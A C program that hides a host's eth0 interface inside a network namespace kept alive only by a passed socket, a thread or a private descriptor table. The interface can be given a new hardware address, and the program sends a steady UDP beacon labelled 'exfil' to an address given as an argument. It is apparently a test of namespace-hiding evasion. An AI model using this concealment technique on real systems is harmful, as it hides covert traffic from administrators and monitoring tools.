/* Hides eth0 in a network namespace that only a socket (received, or still on its way), a thread, or a socket
   in a descriptor table that one thread has to itself holds.
   hide socket|flight|thread|files ADDRESS TARGET [new hardware address] */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>

static int ready[2], moved[2];
static char **words;
static int count;

static int enter_and_open(void) {
  char command[400], got;
  unshare(CLONE_NEWNET);
  write(ready[1], "x", 1);
  read(moved[0], &got, 1);
  snprintf(command, sizeof command, "ip link set eth0 %s %s; ip link set eth0 up; ip addr add %s/16 dev eth0",
           count > 4 ? "address" : "", count > 4 ? words[4] : "down", words[2]);
  system(command);
  return socket(AF_INET, SOCK_DGRAM, 0);
}

static void send_forever(int channel) {
  struct sockaddr_in target = {.sin_family = AF_INET, .sin_port = htons(9999)};
  inet_pton(AF_INET, words[3], &target.sin_addr);
  for (;;) {
    sendto(channel, "exfil", 5, 0, (void *)&target, sizeof target);
    usleep(50000);
  }
}

static void *stand_there(void *tid) {
  int home = -1, channel;
  if (!strcmp(words[1], "files")) {
    unshare(CLONE_FILES);
    home = open("/proc/thread-self/ns/net", O_RDONLY);
  }
  *(volatile long *)tid = syscall(SYS_gettid);
  channel = enter_and_open();
  if (home >= 0) setns(home, CLONE_NEWNET);
  send_forever(channel);
  return 0;
}

static void give(long pid) {
  char command[200], got;
  read(ready[0], &got, 1);
  snprintf(command, sizeof command, "ip link set eth0 netns %ld", pid);
  system(command);
  write(moved[1], "x", 1);
}

static struct msghdr *letter(struct msghdr *m, struct iovec *v, char *room, char *byte) {
  memset(m, 0, sizeof *m);
  *v = (struct iovec){byte, 1};
  m->msg_iov = v, m->msg_iovlen = 1, m->msg_control = room, m->msg_controllen = CMSG_SPACE(sizeof(int));
  return m;
}

int main(int argc, char **argv) {
  char room[CMSG_SPACE(sizeof(int))] = {0}, byte = 'x';
  struct msghdr m;
  struct iovec v;
  int pair[2];
  words = argv, count = argc;
  pipe(ready), pipe(moved), socketpair(AF_UNIX, SOCK_DGRAM, 0, pair);
  if (!strcmp(argv[1], "thread") || !strcmp(argv[1], "files")) {
    pthread_t thread;
    volatile long tid = 0;
    pthread_create(&thread, 0, stand_there, (void *)&tid);
    while (!tid) usleep(1000);
    give(tid);
    for (;;) pause();
  }
  pid_t child = fork();
  if (!child) {
    int channel = enter_and_open();
    struct cmsghdr *h;
    letter(&m, &v, room, &byte);
    h = CMSG_FIRSTHDR(&m);
    h->cmsg_level = SOL_SOCKET, h->cmsg_type = SCM_RIGHTS, h->cmsg_len = CMSG_LEN(sizeof(int));
    memcpy(CMSG_DATA(h), &channel, sizeof channel);
    sendmsg(pair[1], &m, 0);
    _exit(0);
  }
  give(child);
  waitpid(child, 0, 0);
  if (!strcmp(argv[1], "flight"))
    for (;;) pause();
  recvmsg(pair[0], letter(&m, &v, room, &byte), 0);
  int channel;
  memcpy(&channel, CMSG_DATA(CMSG_FIRSTHDR(&m)), sizeof channel);
  close(pair[0]), close(pair[1]);
  send_forever(channel);
}
